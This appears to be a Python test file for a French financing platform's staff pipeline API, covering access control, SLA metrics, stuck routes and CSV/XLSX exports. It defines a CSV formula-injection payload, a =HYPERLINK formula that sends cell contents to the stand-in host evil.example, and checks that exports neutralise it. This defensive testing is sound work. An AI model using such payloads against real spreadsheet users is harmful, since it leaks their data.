"""Staff's pipeline: counts, medians, SLA breaches, stuck routes, CSV and XLSX exports."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta

from openpyxl import load_workbook

from app.api.pipeline import COLUMNS
from dossier.db import utcnow
from dossier.formatting import paris
from dossier.models import Route
from tests.conftest import login
from tests.helpers import full_dossier, submit
from tests.routing.conftest import wait_routes

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'
ENDPOINTS = ("/api/v1/pipeline", "/api/v1/pipeline/export.csv", "/api/v1/pipeline/export.xlsx")
PARTNERS = ["ampa", "bdf", "bnp-paribas", "bpmed", "ca-alpes-provence", "cepac", "cic",
            "mi-honor-loan"]


def test_pipeline_is_for_staff_only(client, founder, staff):
    for headers in (founder, login(client, "cepac@demo.example")):
        for path in ENDPOINTS:
            r = client.get(path, headers=headers)
            assert r.status_code == 403, path
            assert r.json()["code"] == "role_forbidden"
    for path in ENDPOINTS:
        assert client.get(path).status_code == 401
        assert client.get(path, headers=staff).status_code == 200
    empty = client.get("/api/v1/pipeline", headers=staff).json()
    assert empty["totals"] == {} and empty["stuck"] == []
    assert [p["code"] for p in empty["partners"]] == PARTNERS
    assert all(p["routed"] == 0 and p["median_days_to_decision"] is None
               for p in empty["partners"])


def test_pipeline_counts_medians_breaches_stuck_and_exports(client, founder, staff, sessions):
    ids = [submit(client, founder, body)["dossier_id"] for body in (
        full_dossier(name=EVIL, ask_cic=True), full_dossier(name="Biotope", partners=["cepac"]),
        full_dossier(name="Numeria", partners=["cepac"]))]
    routed = [{x["partner"]: x["id"] for x in wait_routes(
        client, founder, dossier_id, lambda rs: all(x["state"] == "delivered" for x in rs))}
        for dossier_id in ids]
    main_routes, (second, third) = routed[0], [r["cepac"] for r in routed[1:]]
    reviewers = {code: login(client, f"{code}@demo.example")
                 for code in ("cepac", "bpmed", "ampa", "mi-honor-loan")}

    def event(code, route_id, body):
        r = client.post(f"/api/v1/routes/{route_id}/events", headers=reviewers[code], json=body)
        assert r.status_code == 201, r.text

    for route_id, amount in ((main_routes["cepac"], "200000"), (second, "150000"),
                             (third, "100000")):
        event("cepac", route_id, {"type": "approved", "instrument": "bank_loan",
                                  "amount_eur": amount})
    event("bpmed", main_routes["bpmed"], {"type": "declined", "reason": "too_early"})
    event("ampa", main_routes["ampa"], {"type": "info_requested", "request_kind": "question",
                                        "message": "Quel est le calendrier ?"})
    event("mi-honor-loan", main_routes["mi-honor-loan"], {"type": "opened"})
    assert client.post(f"/api/v1/routes/{main_routes['cic']}/withdraw",
                       headers=founder).status_code == 200

    now = utcnow()
    start = now - timedelta(days=60)
    day = timedelta(days=1)
    # route: (delivered_at, first_action_at, decided_at)
    times = {
        main_routes["cepac"]: (start, start + day, start + 2 * day),
        second: (start, start + 3 * day, start + 20 * day),  # decided after the 15-day SLA
        third: (start, start + 10 * day, start + 12 * day),
        main_routes["bpmed"]: (start, start + day / 2, start + day / 2),
        main_routes["ampa"]: (now - day, now - day / 2, None),
        main_routes["mi-honor-loan"]: (now - 30 * day, now - 29 * day, None),  # SLA 21 days
        main_routes["bdf"]: (now - 8 * day, None, None),  # SLA 5 days, nobody looked
        main_routes["cic"]: (now - 100 * day, None, None),  # withdrawn: no longer counts
    }
    with sessions() as db, db.begin():
        for route_id, (delivered, first, decided) in times.items():
            route = db.get(Route, uuid.UUID(route_id))
            route.delivered_at, route.first_action_at, route.decided_at = delivered, first, decided

    r = client.get("/api/v1/pipeline", headers=staff)
    assert r.status_code == 200, r.text
    data = r.json()
    assert data["totals"] == {"approved": 3, "declined": 1, "info_requested": 1, "opened": 1,
                              "delivered": 1, "withdrawn": 1}
    lines = {p["code"]: p for p in data["partners"]}
    assert sorted(lines) == PARTNERS
    cepac = lines["cepac"]
    assert {k: cepac[k] for k in ("routed", "opened", "in_review", "info_requested", "approved",
                                  "declined", "withdrawn", "sla_breaches")} == {
        "routed": 3, "opened": 3, "in_review": 0, "info_requested": 0, "approved": 3,
        "declined": 0, "withdrawn": 0, "sla_breaches": 1}
    # Medians, not means: first actions after 1, 3, 10 days; decisions after 2, 20, 12 days.
    assert cepac["median_days_to_first_action"] == 3.0
    assert cepac["median_days_to_decision"] == 12.0
    assert (cepac["requested_eur"], cepac["approved_eur"]) == ("600000.00", "450000.00")
    assert lines["bpmed"]["declined"] == 1 and lines["bpmed"]["median_days_to_decision"] == 0.5
    assert lines["ampa"]["info_requested"] == 1 and lines["ampa"]["sla_breaches"] == 0
    assert lines["mi-honor-loan"]["median_days_to_first_action"] == 1.0
    assert lines["mi-honor-loan"]["median_days_to_decision"] is None
    assert (lines["bdf"]["opened"], lines["bdf"]["sla_breaches"]) == (0, 1)
    assert lines["bdf"]["median_days_to_first_action"] is None
    assert (lines["cic"]["withdrawn"], lines["cic"]["sla_breaches"]) == (1, 0)
    assert lines["ca-alpes-provence"]["routed"] == 0
    assert [(s["partner"], s["state"], s["waiting_days"], s["company"])
            for s in data["stuck"]] == [("mi-honor-loan", "opened", 30.0, EVIL),
                                        ("bdf", "delivered", 8.0, EVIL)]
    assert data["stuck"][0]["route_id"] == main_routes["mi-honor-loan"]

    # The integrators' export: stable codes, ISO moments, dot decimals, `,`, no BOM
    exported = client.get("/api/v1/pipeline/export.csv?format=codes", headers=staff)
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    assert 'filename="pipeline-codes.csv"' in exported.headers["content-disposition"]
    assert not exported.content.startswith(b"\xef\xbb\xbf")
    text = exported.content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text), delimiter=","))
    assert rows[0] == list(COLUMNS)
    records = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
    assert sorted(r["route_id"] for r in records) == sorted(times)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    by_id = {r["route_id"]: r for r in records}
    first = by_id[main_routes["cepac"]]
    assert first["company"] == "'" + EVIL and first["partner"] == "cepac"
    assert (first["state"], first["requested_eur"], first["approved_eur"]) == (
        "approved", "200000.00", "200000.00")
    assert first["decided_at"] == (start + 2 * day).isoformat()
    assert by_id[main_routes["bpmed"]]["decision_reason"] == "too_early"
    assert by_id[main_routes["bdf"]]["first_action_at"] == ""
    assert by_id[second]["company"] == "Biotope"

    # People's export (the default): French words, Paris times, decimal comma, BOM and `;`
    french = client.get("/api/v1/pipeline/export.csv", headers=staff)
    assert french.content.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(french.content.decode("utf-8-sig")), delimiter=";"))
    assert lines[0][:6] == ["Référence de la demande", "Référence du dossier", "Entreprise",
                            "Filière", "Partenaire", "État"]
    cepac_line = next(line for line in lines if line[0] == main_routes["cepac"])
    assert cepac_line[4:9] == ["Caisse d'Epargne CEPAC", "Accordé", "Prêt bancaire",
                               "200000,00", "200000,00"]
    assert cepac_line[13] == paris(start + 2 * day).strftime("%d/%m/%Y %H:%M")
    assert client.get("/api/v1/pipeline/export.csv?format=json",
                      headers=staff).status_code == 422

    xlsx = client.get("/api/v1/pipeline/export.xlsx?format=codes", headers=staff)
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.content))
    assert book.sheetnames == ["partners", "routes"]
    summary = list(book["partners"].iter_rows(values_only=True))
    assert summary[0][:3] == ("code", "routed", "opened")
    assert [row[0] for row in summary[1:]] == PARTNERS
    cepac_row = dict(zip(summary[0], next(r for r in summary if r[0] == "cepac"), strict=True))
    assert (cepac_row["routed"], cepac_row["sla_breaches"]) == (3, 1)
    assert cepac_row["median_days_to_decision"] == 12
    assert float(cepac_row["approved_eur"]) == 450000
    sheet = book["routes"]
    detail = list(sheet.iter_rows(values_only=True))
    assert detail[0] == COLUMNS and len(detail) == 1 + len(times)
    company_column = COLUMNS.index("company")
    cells = [row[company_column] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)
    assert sorted(c.value for c in cells) == sorted(["Biotope", "Numeria"] + ["'" + EVIL] * 6)


def test_csv_export_streams_in_pieces_not_lines():
    """Each piece of a streamed sync iterator costs a thread-pool hop: one per line made the
    export of 1 000 routes take 22 s (p95) under the soak's load."""
    from app.exports import csv_lines

    rows = [[f"route {i}", "cepac", "=SUM(A1)"] for i in range(5000)]
    pieces = list(csv_lines(rows, ["a", "b", "c"]))
    assert len(pieces) < 10
    lines = list(csv.reader(io.StringIO("".join(pieces).lstrip("\ufeff")), delimiter=";"))
    assert lines[0] == ["a", "b", "c"]
    assert len(lines) == 5001 and lines[-1] == ["route 4999", "cepac", "'=SUM(A1)"]
